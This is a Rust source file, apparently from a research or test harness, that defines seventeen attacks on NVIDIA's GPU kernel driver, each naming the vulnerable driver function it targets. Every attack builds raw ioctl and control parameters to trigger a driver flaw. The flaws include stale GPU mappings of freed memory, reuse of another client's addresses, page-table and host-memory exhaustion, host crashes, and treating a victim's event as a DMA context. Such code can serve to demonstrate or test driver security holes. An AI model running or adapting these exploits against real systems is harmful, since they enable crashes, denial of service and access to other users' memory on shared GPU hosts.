// SPDX-License-Identifier: GPL-2.0
//! Calls that an instance needs capabilities for, and more holes of the driver in such calls. The
//! attacker's instance has all capabilities.

use super::{
    attack::attacks,
    scene::{told, Attacker, MIB, OWN},
};
use crate::{
    bytes::{put_u32, put_u64},
    facts,
    guest::{rm, tools::Verdict},
    layout, standin,
};

attacks! {
    "memory of others by a compute object's page (RM_MAP_MEMORY_DMA)": "kernel_graphics_object.c:kgrobjSetComputeMmio_IMPL",
        Passes, Gpu, page_of_other_kind;
    "shared data's page mapped for the GPU (RM_MAP_MEMORY_DMA)": "mem.c:memGetMemInterMapParams_IMPL",
        Passes, Told, shared_page;
    "the driver's pool of page tables (RM_MAP_MEMORY_DMA)": "mapping.c:serverInterMap_Prologue",
        Passes, Gpu, pool_of_tables;
    "unmapped memory that the GPU still reaches (DEFER_TLB_INVALIDATION)": "virt_mem_allocator_gm107.c:dmaFreeMapping_GM107",
        Passes, Gpu, stale_translation;
    "freed memory that the GPU still reads (ACCESS_READ_ONLY)": "rs_client.c:_unmapInterMapping",
        Passes, Gpu, read_only;
    "addresses of others freed by a mapping (DMA_UNICAST_REUSE_ALLOC)": "virt_mem_allocator_gm107.c:dmaAllocMapping_GM107",
        Passes, Told, addresses_again;
    "host crash: an encoder's session outlives its memory (NVENC_SW_SESSION)": "nvencsession.c:nvencsessionDestruct_IMPL",
        Passes, Gpu, encoder_session;
    "host crash: peer memory registered for itself (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
        Passes, Gpu, for_itself;
    "a control page in a range of addresses": "kernel_channel_gv100.c:kchannelCreateUserdMemDesc_GV100",
        Passes, Gpu, control_page_of_range;
    "host memory by registrations without end (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
        Passes, Told, registrations;
    "host memory by one queue (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
        Passes, Gpu, large_queue;
    "BAR1 for a queue's notes (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
        Passes, Gpu, notes_in_video_memory;
    "host memory by channels that were bound (BIND_CHANNEL)": "sem_surf.c:semsurfCtrlCmdBindChannel_IMPL",
        Passes, Gpu, bonds;
    "BAR1 lost by a context for DMA (NV01_CONTEXT_DMA)": "context_dma.c:_ctxdmaDestroyFBMappings",
        Passes, Gpu, kernel_mapping;
    "host memory read by a debugger (DEBUG_READ_MEMORY)": "kernel_sm_debugger_session_ctrl.c:_nv83deCtrlCmdDebugAccessMemory",
        Passes, Gpu, debugger;
    "another's event, as a context for DMA (NV_ESC_RM_ALLOC_CONTEXT_DMA2)": "rmapi_deprecated_misc.c:RmDeprecatedAllocContextDma",
        Passes, Told, event_as_context;
    "host crash: a profiler bound after a failed stream (BIND_PM_RESOURCES)": "kern_profiler_v2_ctrl.c:profilerBaseCtrlCmdBindPmResources_IMPL",
        Passes, Gpu, failed_stream;
}

/// A range of the device's own address space (NV01_MEMORY_VIRTUAL). Branch 550 refuses to map into
/// the address space itself.
fn range(a: &Attacker, handle: u32) -> Verdict {
    let made = a.alloc(rm::DEVICE_HANDLE, handle, 0x70, &mut [0; 24]);
    a.prepare("a range of addresses", made)
}

/// The driver tells the GPU an address of the range, as if it were a place in memory.
fn control_page_of_range(a: &Attacker) -> Verdict {
    const RANGE: u32 = OWN + 4;
    addresses(a, RANGE)?;
    let mut params = [0; 368];
    put_u32(&mut params, 32, RANGE);
    a.alloc(a.group()?, OWN + 1, rm::CHANNEL, &mut params)
}

/// A range of 2 MiB with its page tables (NV50_MEMORY_VIRTUAL).
fn addresses(a: &Attacker, handle: u32) -> Verdict {
    let mut params = rm::memory_params(a.client.handle, 2 * MIB);
    // NVOS32_ALLOC_FLAGS_VIRTUAL.
    put_u32(&mut params, 8, 0x8_0000);
    put_u32(&mut params, 24, 0);
    let made = a.alloc(rm::DEVICE_HANDLE, handle, 0x50a0, &mut params);
    a.prepare("a range of addresses", made)
}

/// Page tables for 16 TiB are 32 GiB. The range has 2 MiB, and so has the memory.
fn pool_of_tables(a: &Attacker) -> Verdict {
    const RANGE: u32 = OWN + 4;
    a.memory(OWN, 2 * MIB)?;
    addresses(a, RANGE)?;
    a.map_dma((OWN, RANGE), 1 << 44, 0).map(drop)
}

/// A compute object's page is a place in the GPU's memory by the kind of page of the range
/// (`NVOS46_FLAGS_PAGE_KIND_VIRTUAL`).
fn page_of_other_kind(a: &Attacker) -> Verdict {
    const KIND_OF_RANGE: u32 = 1 << 3;
    const SPACE: u32 = OWN + 3;
    let object = a.compute()?;
    range(a, SPACE)?;
    a.map_dma((object, SPACE), 4096, KIND_OF_RANGE).map(drop)
}

fn shared_page(a: &Attacker) -> Verdict {
    let made = a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0xde, &mut [0; 8]);
    a.prepare("an object of shared data", made)?;
    range(a, OWN + 1)?;
    a.map_dma((OWN, OWN + 1), 4096, 0).map(drop)
}

fn stale_translation(a: &Attacker) -> Verdict {
    a.memory(OWN, 2 * MIB)?;
    range(a, OWN + 1)?;
    let address = a.prepare("a mapping", a.map_dma((OWN, OWN + 1), 2 * MIB, 0))?;
    // NVOS47_FLAGS_DEFER_TLB_INVALIDATION_TRUE.
    let names = [a.client.handle, rm::DEVICE_HANDLE, OWN + 1, OWN, 1];
    let mut outer = [0; 48];
    for (at, value) in (0..).step_by(4).zip(names) {
        put_u32(&mut outer, at, value);
    }
    put_u64(&mut outer, 24, address);
    // Branch 535 has no size in it.
    match facts::branch() {
        535 => a.escape(0x58, &mut outer[..40], 32),
        _ => a.escape(0x58, &mut outer, 40),
    }
}

/// The memory is freed while it is mapped.
fn read_only(a: &Attacker) -> Verdict {
    a.memory(OWN, 2 * MIB)?;
    range(a, OWN + 1)?;
    // NVOS46_FLAGS_ACCESS_READ_ONLY.
    a.map_dma((OWN, OWN + 1), 2 * MIB, 1)?;
    told(a.client.free(OWN))
}

/// Maps into addresses that are taken. (If something is mapped there, the driver frees them, and
/// what was there stays in the GPU's page tables.)
fn addresses_again(a: &Attacker) -> Verdict {
    const REUSE_ALLOC: u32 = 1 << 29;
    a.memory(OWN, 2 * MIB)?;
    addresses(a, OWN + 1)?;
    a.map_dma((OWN, OWN + 1), 2 * MIB, REUSE_ALLOC).map(drop)
}

/// The session has its memory by a pointer, which is used when it ends.
fn encoder_session(a: &Attacker) -> Verdict {
    a.prepare("a page of host memory", a.client.system_page(OWN))?;
    let mut params = [0; 20];
    // NVA0BC_ALLOC_PARAMS_VER_1.
    put_u32(&mut params, 12, 1);
    put_u32(&mut params, 16, OWN);
    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 1, 0xa0bc, &mut params)?;
    told(a.client.free(OWN))?;
    told(a.client.free(OWN + 1))
}

/// Registers a number with memory for other devices.
fn register(a: &Attacker, number: u32) -> Verdict {
    let mut params = [0; 16];
    put_u32(&mut params, 0, number);
    a.control(OWN, 0x503c_0102, &mut params)
}

fn for_itself(a: &Attacker) -> Verdict {
    a.peer_memory(OWN)?;
    register(a, OWN)
}

/// Numbers that are no object's: the driver keeps a record of each.
fn registrations(a: &Attacker) -> Verdict {
    const RECORDS: u32 = 20_000;
    a.peer_memory(OWN)?;
    for count in 0..RECORDS {
        register(a, OWN + 1 + count).map_err(|end| format!("{end} after {count}"))?;
    }
    Ok(())
}

/// A surface of semaphores over host memory, of handle `OWN`.
const SURFACE: u32 = OWN + 5;

fn surface(a: &Attacker) -> Verdict {
    a.prepare("a page of host memory", a.client.system_page(OWN))?;
    let mut params = [0; 16];
    put_u32(&mut params, 0, OWN);
    let made = a.alloc(rm::SUBDEVICE_HANDLE, SURFACE, 0xda, &mut params);
    a.prepare("a surface of semaphores", made)
}

/// A queue of so many operations, and memory for its notes.
fn queue(a: &Attacker, operations: u32, notes: u32) -> Verdict {
    surface(a)?;
    let mut params = [0; 24];
    put_u32(&mut params, 0, SURFACE);
    put_u32(&mut params, 4, operations);
    put_u32(&mut params, 8, notes);
    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 6, 0xfe, &mut params)
}

fn large_queue(a: &Attacker) -> Verdict {
    queue(a, 1 << 20, OWN)
}

fn notes_in_video_memory(a: &Attacker) -> Verdict {
    a.memory(OWN + 1, 2 * MIB)?;
    queue(a, 1, OWN + 1)
}

/// Each channel goes again, and what the driver made for it stays.
fn bonds(a: &Attacker) -> Verdict {
    const GROUP: u32 = OWN + 1;
    const CHANNELS: u32 = 2500;
    surface(a)?;
    a.group_on(GROUP, rm::COMPUTE)?;
    for channel in (OWN + 16..).take(CHANNELS as usize) {
        told(a.client.channel(GROUP, channel))?;
        let mut params = [0; 40];
        put_u32(&mut params, 0, channel);
        put_u32(&mut params, 4, 1);
        a.control_as_sized(a.client.handle, SURFACE, 0xda_0002, &mut params)?;
        told(a.client.free(channel))?;
    }
    Ok(())
}

/// A context over video memory that is mapped for the kernel (`NVOS03_FLAGS_TYPE_NOTIFIER`).
fn kernel_mapping(a: &Attacker) -> Verdict {
    a.memory(OWN, 2 * MIB)?;
    let mut params = [0; 32];
    // And no hash table.
    put_u32(&mut params, 4, 1 << 20 | 1 << 29);
    put_u32(&mut params, 8, OWN);
    put_u64(&mut params, 24, 2 * MIB - 1);
    a.alloc(rm::DEVICE_HANDLE, OWN + 1, 0x2, &mut params)?;
    told(a.client.free(OWN + 1))
}

/// A debugger of an object of its own reads a range of addresses.
fn debugger(a: &Attacker) -> Verdict {
    const RANGE: u32 = OWN + 4;
    let debugger = a.debugger()?;
    let mut params = rm::memory_params(a.client.handle, 2 * MIB);
    // NVOS32_ALLOC_FLAGS_VIRTUAL.
    put_u32(&mut params, 8, 0x8_0000);
    put_u32(&mut params, 24, 0);
    a.alloc(rm::DEVICE_HANDLE, RANGE, 0x50a0, &mut params)?;
    let mut read = [0u8; 64];
    let mut params = [0; 24];
    put_u32(&mut params, 0, RANGE);
    put_u32(&mut params, 4, 64);
    put_u64(&mut params, 16, read.as_mut_ptr() as u64);
    a.control(debugger, 0x83de_0315, &mut params)
}

/// An event on the victim's subdevice. Its parameters are those of a context for DMA: the client
/// stands for a subdevice, and the class is the number of a piece of memory.
fn event_as_context(a: &Attacker) -> Verdict {
    const KEY: u32 = 5;
    a.event_key(KEY)?;
    a.memory(layout::CLASS_OS_EVENT, 2 * MIB)?;
    let mut outer = [0; 56];
    for (at, value) in [
        (0, a.client.handle),
        (4, a.victim.client),
        (8, OWN),
        (12, layout::CLASS_OS_EVENT),
        (16, rm::SUBDEVICE_HANDLE),
        (24, layout::CLASS_OS_EVENT),
    ] {
        put_u32(&mut outer, at, value);
    }
    put_u64(&mut outer, 32, KEY.into());
    a.escape(0x54, &mut outer, 48)
}

/// A stream of records that is refused for its size.
fn failed_stream(a: &Attacker) -> Verdict {
    const PROFILER: u32 = OWN + 1;
    if facts::branch() < 570 {
        let why = standin::not_here("this branch makes room for streams after the first one");
        return a.prepare("a stream that fails", Err(why));
    }
    a.memory(OWN, 4096)?;
    let made = a.alloc(rm::SUBDEVICE_HANDLE, PROFILER, 0xb2cc, &mut [0; 8]);
    a.prepare("a profiler", made)?;
    let mut params = [0; 56];
    put_u32(&mut params, 0, OWN);
    put_u32(&mut params, 24, OWN);
    if a.control(PROFILER, 0xb0cc_0105, &mut params).is_ok() {
        return a.prepare("a stream that fails", Err("it was made"));
    }
    a.control(PROFILER, 0xb0cc_0107, &mut [])
}
